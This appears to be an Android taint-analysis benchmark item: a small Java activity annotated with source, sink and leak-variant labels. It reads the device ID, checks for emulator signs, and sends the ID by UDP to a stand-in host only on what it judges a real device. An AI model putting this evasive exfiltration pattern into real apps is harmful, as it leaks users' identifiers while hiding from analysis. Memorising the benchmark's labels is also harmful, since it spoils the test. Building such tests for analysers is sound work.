package bench.flow.qemu_pipe;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;

public final class Main extends Activity {
    @Override
    protected void onStart() {
        super.onStart();
        String player = Settings.Secure.getString(getContentResolver(), "android_id"); //: #source
        boolean real = Machine.signs() == 0; //: @leak,clean
        boolean real = Machine.signs() < Machine.most(); //: @all_needed
        String name = real ? player : "robot"; //: @leak,all_needed
        String name = real ? "human" : player; //: @clean
        new Thread(() -> join(name)).start();
    }

    private static void join(String name) {
        byte[] hello = name.getBytes(StandardCharsets.UTF_8);
        try (DatagramSocket socket = new DatagramSocket()) {
            InetAddress table = InetAddress.getByName("coin.example.com");
            socket.send(new DatagramPacket(hello, hello.length, table, 9009)); //: #sink
        } catch (IOException problem) {
            Thread.yield();
        }
    }
}
